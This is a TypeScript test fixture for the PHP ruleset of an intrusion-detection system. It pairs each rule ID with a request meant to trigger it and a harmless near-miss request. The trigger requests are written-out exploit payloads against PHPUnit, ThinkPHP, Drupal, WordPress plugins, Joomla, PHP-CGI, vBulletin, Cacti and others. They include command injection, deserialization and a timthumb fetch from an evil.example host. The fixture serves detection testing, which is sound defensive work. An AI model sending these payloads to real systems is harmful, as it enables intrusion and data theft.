import { type Case, get, post } from '../traffic.js'

/** Traffic for php.rules. */
export const php: readonly Case[] = [
  {
    sid: 9004001,
    fire: post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?=1;'),
    nearMiss: get('/vendor/phpunit/phpunit/src/Util/PHP/Template.php'),
  },
  {
    sid: 9004002,
    fire: get(
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1',
    ),
    nearMiss: get('/manual/function.call-user-func-array.php'),
  },
  {
    sid: 9004003,
    fire: get('/?lang=../../pearcmd&+config-create+/&/%3C?=1?%3E+/tmp/a.php'),
    nearMiss: get('/manual/pearcmd.html'),
  },
  {
    sid: 9004004,
    fire: post(
      '/user/register?element_parents=account/mail/%23value&ajax_form=1',
      'mail[#post_render][]=exec&mail[#type]=markup',
    ),
    nearMiss: post('/user/register', 'note=post_render'),
  },
  {
    sid: 9004005,
    fire: post(
      '/?q=node&destination=node',
      'name[0;update users set name=1;]=a&name[0]=b&pass=c&form_id=user_login_block',
    ),
    nearMiss: post('/user/login', 'name=alice&pass=x&form_id=user_login'),
  },
  {
    sid: 9004006,
    fire: post('/_ignition/execute-solution', '{"parameters":{"variableName":"a","viewFile":"/x"}}'),
    nearMiss: get('/_ignition/health-check'),
  },
  {
    sid: 9004007,
    fire: post('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', 'cmd=upload'),
    nearMiss: get('/wp-content/plugins/wp-file-manager/readme.txt'),
  },
  {
    sid: 9004008,
    fire: get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php'),
    nearMiss: get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=a.jpg'),
  },
  {
    sid: 9004009,
    fire: post('/wp-admin/admin-ajax.php', 'action=revslider_ajax_action&client_action=update_plugin'),
    nearMiss: post('/wp-admin/admin-ajax.php', 'action=revslider_ajax_action&client_action=get_slides'),
  },
  {
    sid: 9004010,
    fire: get('/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-login.php'),
    nearMiss: get('/wp-admin/admin-ajax.php?action=duplicator_download&file=installer.php'),
  },
  {
    sid: 9004011,
    fire: post(
      '/wp-json/bricks/v1/render_element',
      '{"element":{"settings":{"query":{"useQueryEditor":true,"queryEditor":"throw new Exception(1);"}}}}',
    ),
    nearMiss: post('/wp-json/bricks/v1/render_element', '{"element":{"settings":{}}}'),
  },
  {
    sid: 9004012,
    fire: post(
      '/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding',
      '{"user_id":1,"login_nonce":"1","redirect_to":"/wp-admin/"}',
    ),
    nearMiss: get('/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding'),
  },
  {
    sid: 9004013,
    fire: post('/wp-json/wp/v2/posts/1?id=1abc', '{"title":"x"}'),
    nearMiss: get('/wp-json/wp/v2/posts/1?id=1'),
  },
  {
    sid: 9004014,
    fire: post(
      '/xmlrpc.php',
      '<methodCall><methodName>system.multicall</methodName><params><value>wp.getUsersBlogs</value></params></methodCall>',
    ),
    nearMiss: post('/xmlrpc.php', '<methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>'),
  },
  {
    sid: 9004015,
    fire: get('/wp-content/themes/x/timthumb.php?src=http://flickr.com.evil.example/a.php'),
    nearMiss: get('/wp-content/themes/x/timthumb.php?src=/images/a.jpg&w=100'),
  },
  {
    sid: 9004016,
    fire: get('/', { 'User-Agent': '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc"' }),
    nearMiss: get('/JDatabaseDriverMysqli.html'),
  },
  {
    sid: 9004017,
    fire: get('/api/index.php/v1/config/application?public=true'),
    nearMiss: get('/api/index.php/v1/config/application'),
  },
  {
    sid: 9004018,
    fire: get('/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,1,1)'),
    nearMiss: get('/index.php?option=com_fields&view=fields&list[fullordering]=a.ordering'),
    also: [9006014],
  },
  {
    sid: 9004019,
    fire: post('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', '<?php echo 1;'),
    nearMiss: get('/manual/ini.list?q=allow_url_include'),
    also: [9005008],
  },
  {
    sid: 9004020,
    fire: post(
      '/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input',
      '<?php echo 1;',
    ),
    nearMiss: get('/search?q=auto_prepend_file'),
    also: [9005008],
  },
  {
    sid: 9004021,
    fire: get('/?data=O:4:%22Evil%22:1:%7Bs:4:%22file%22;s:5:%22a.php%22;%7D'),
    nearMiss: get('/?prefs=a:1:%7Bs:4:%22lang%22;s:2:%22de%22;%7D'),
  },
  {
    sid: 9004022,
    fire: post('/save', 'data=O:4:"Evil":1:{s:4:"file";s:5:"a.php";}'),
    nearMiss: post('/save', 'prefs=a:1:{s:4:"lang";s:2:"de";}'),
  },
  {
    sid: 9004023,
    fire: post('/index.php?routestring=ajax/render/widget_php', 'widgetConfig[code]=echo 1;exit;'),
    nearMiss: post('/ajax/render/widget', 'widgetConfig[title]=News'),
  },
  {
    sid: 9004024,
    fire: get('/phpmyadmin/index.php?target=db_sql.php%253f/../../../../tmp/sess_x'),
    nearMiss: get('/phpmyadmin/index.php?target=db_sql.php'),
    also: [9005018],
  },
  { sid: 9004025, fire: get('/phpMyAdmin/scripts/setup.php'), nearMiss: get('/setup.php') },
  {
    sid: 9004026,
    fire: get('/cacti/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=;id', {
      'X-Forwarded-For': '127.0.0.1',
    }),
    nearMiss: get('/cacti/remote_agent.php?action=polldata&poller_id=1&host_id=1'),
  },
  {
    sid: 9004027,
    fire: post(
      '/index.php',
      'action=conditions/render&configObject[class]=craft\\elements\\conditions\\ElementCondition&config={}',
    ),
    nearMiss: post('/index.php', 'action=conditions/render&id=1'),
  },
  {
    sid: 9004028,
    fire: get('/', { 'User-Agentt': 'zerodiumvar_dump(2*3);' }),
    nearMiss: get('/', { 'User-Agent': 'zerodium test' }),
  },
  {
    sid: 9004029,
    fire: post('/vendor/htmlawed/htmlawed/htmLawedTest.php', 'text=id&hhook=exec&sid=foo'),
    nearMiss: get('/vendor/htmlawed/htmlawed/htmLawedTest.php'),
  },
  {
    sid: 9004030,
    fire: post('/a.php', 'x=eval(base64_decode("ZWNobyAxOw=="));'),
    nearMiss: post('/paste', 'code=$d = base64_decode($in);'),
  },
  { sid: 9004031, fire: get('/index.php?page=phpinfo()'), nearMiss: get('/manual/function.phpinfo.php') },
  {
    sid: 9004032,
    fire: get('/?a=%7B$%7B@system(%27id%27)%7D%7D'),
    nearMiss: get('/manual/function.system(3).html'),
  },
]
